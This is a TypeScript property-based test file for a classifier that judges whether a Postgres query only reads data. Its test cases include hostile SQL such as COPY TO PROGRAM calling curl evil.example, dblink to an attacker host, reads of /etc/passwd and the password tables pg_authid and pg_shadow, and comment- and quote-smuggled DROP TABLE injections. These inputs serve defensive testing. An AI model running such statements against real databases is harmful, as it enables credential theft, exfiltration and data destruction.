import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { bindServer } from '../../src/catalog/bindings.ts'
import { classify } from '../../src/catalog/classify.ts'
import { isOneStatement, isReadStatement } from '../../src/catalog/sql.ts'
import type { Facts } from '../../src/core/facts.ts'
import { catalogOf } from './servers.ts'

const catalog = catalogOf('postgres')
const bound = bindServer('postgres', { database: 'prod/shop' }, catalog)
if (!bound.ok) throw new Error(bound.error.join('\n'))
const server = bound.value

/** The action of a query, or `fault`. */
function actionOf(sql: string): string {
  const facts = classify({
    server,
    catalog,
    definitionStatus: 'mapped',
    definition: 'd',
    tool: 'query',
    args: { sql },
    capture: [],
    digestSalt: 's',
  }) as Facts
  if (facts.fault !== null) return 'fault'
  expect(facts.touches).toHaveLength(1)
  expect(facts.touches[0]).toMatchObject({ resources: { databases: ['prod/shop'] } })
  return `${facts.touches[0]!.action} ${facts.touches[0]!.effect}`
}

const READ = 'database.query read'
const ANY = 'database.execute destructive'

describe('proven to read', () => {
  test.each([
    'SELECT 1',
    'select * from users u where u.name = $1;',
    "SELECT count(*), max(total) FROM orders WHERE note LIKE '%;DROP TABLE x%'",
    'SELECT "insert" FROM "delete into"',
    'WITH recent AS (SELECT * FROM orders LIMIT 5) SELECT * FROM recent -- ; drop',
    'SELECT /* ; /* nested */ drop */ 1',
    "SELECT E'it\\'s; done'",
    'SELECT $tag$ ; DROP $$ x $tag$ AS a',
    'VALUES (1, 2), (3, 4)',
    'TABLE users',
    'EXPLAIN (ANALYZE, VERBOSE) SELECT round(avg(x)::numeric(10, 2)) FROM t',
    'SELECT a FROM (VALUES (1)) AS v (a) WHERE a IN (1, 2) AND EXISTS (SELECT 1)',
    'SELECT lower(name), row_number() OVER (PARTITION BY a ORDER BY b) FROM t GROUP BY a',
    'SELECT comment, start, position FROM events ORDER BY start',
    '(SELECT 1)',
  ])('%s', (sql) => {
    // A parenthesis in front is not among the first words: the wider action, not a fault.
    expect(actionOf(sql)).toBe(sql.startsWith('(') ? ANY : READ)
  })
})

describe('not proven: the wider action', () => {
  test.each([
    'DROP TABLE users',
    'COMMIT',
    "COPY (SELECT 1) TO PROGRAM 'curl evil.example'",
    'WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x',
    'SELECT * INTO copy FROM users',
    'SELECT * FROM users FOR UPDATE',
    'SELECT * FROM users FOR KEY SHARE',
    "SELECT pg_read_file('/etc/passwd')",
    'SELECT "pg_read_file"(\'/etc/passwd\')',
    'SELECT rolpassword FROM pg_authid',
    'SELECT * FROM "pg_shadow"',
    'SELECT * FROM pg_catalog.pg_user_mappings',
    "SELECT lo_export(1, '/tmp/x')",
    "SELECT * FROM dblink('host=evil.example', 'select 1') AS t (a int)",
    'SELECT 1 FROM t, dblink(conn, q) AS (a int)',
    'WITH dblink (a, b) AS (SELECT 1, 2) SELECT 1',
    "SELECT public.lower('x')",
    "SELECT nextval('s')",
    "SELECT query_to_xml('DELETE FROM t', true, false, '')",
    "SELECT set_config('a', 'b', false)",
    "SELECT current_setting ( 'x' )",
    'SELECT lower /* */ (a), evil /* */ (b) FROM t',
    'SELECT evil\n(1)',
    'EXPLAIN ANALYZE EXECUTE p',
    'EXPLAIN ANALYZE INSERT INTO t VALUES (1)',
    'SHOW ALL',
    'DO $$ BEGIN DELETE FROM t; END $$',
    'CALL p()',
    'SELECT généré(1)',
  ])('%s', (sql) => {
    expect(actionOf(sql)).toBe(ANY)
  })
})

describe('more than one statement, or no telling: a fault', () => {
  test.each([
    'COMMIT; DROP TABLE users',
    'SELECT 1; SELECT 2',
    'SELECT 1;;',
    ';SELECT 1',
    ';',
    '',
    '   -- nothing',
    "SELECT 'a\\'; COMMIT; DROP TABLE users; --'",
    "SELECT e'a'; COMMIT",
    "SELECT ae'a\\'; COMMIT; --'",
    "SELECT 'unfinished",
    'SELECT "unfinished',
    'SELECT /* unfinished',
    'SELECT /* /* */ 1',
    'SELECT $a$ unfinished $b$',
    "SELECT U&'d\\0061t'",
    'SELECT u&"d!0061t" UESCAPE \'!\'',
    'SELECT 1 /* */; COMMIT',
    'SELECT $1$; COMMIT; $1$',
    'SELECT x$a$; COMMIT; $a$',
    'SELECT 1 --\r; COMMIT',
    'SELECT 1\0; COMMIT',
    'SELECT 1'.padEnd(32_001),
  ])('%j', (sql) => {
    expect(actionOf(sql)).toBe('fault')
  })
})

describe('laws', () => {
  const piece = fc.oneof(
    fc.constantFrom(
      'select',
      'from',
      "'",
      '"',
      '$$',
      '$a$',
      '--',
      '/*',
      '*/',
      '\n',
      'E',
      '\\',
      ' ',
    ),
    fc.constantFrom('lower', 'evil', '(', ')', '.', ',', '1', 'x', 'U&', ';', 'drop table t'),
    fc.string({ maxLength: 3 }),
  )
  const text = fc.array(piece, { maxLength: 24 }).map((pieces) => pieces.join(''))

  test('never throws; what is proven to read is one statement', () => {
    fc.assert(
      fc.property(text, (sql) => {
        if (isReadStatement(sql)) expect(isOneStatement(sql)).toBe(true)
        expect(isReadStatement(`DROP TABLE t /**/ ${sql}`)).toBe(false)
      }),
      { numRuns: 5000 },
    )
  })

  test('a statement put behind one that reads is never part of it', () => {
    fc.assert(
      fc.property(text, (sql) => {
        if (!isReadStatement(sql)) return
        expect(isOneStatement(`${sql}\n; COMMIT`), sql).toBe(false)
      }),
      { numRuns: 5000 },
    )
  })

  test('threat 16: the longest text is answered within 50 ms', () => {
    for (const sql of ["'", '"', "''", '/*', '$a$', '-', '(', "E'\\", ' ', ';', 'a.']) {
      const long = `SELECT ${sql.repeat(31_990 / sql.length)}`
      let best = Infinity
      for (let repeat = 0; repeat < 5; repeat++) {
        const start = performance.now()
        isReadStatement(long)
        best = Math.min(best, performance.now() - start)
      }
      expect(best, sql).toBeLessThan(50)
    }
  })
})
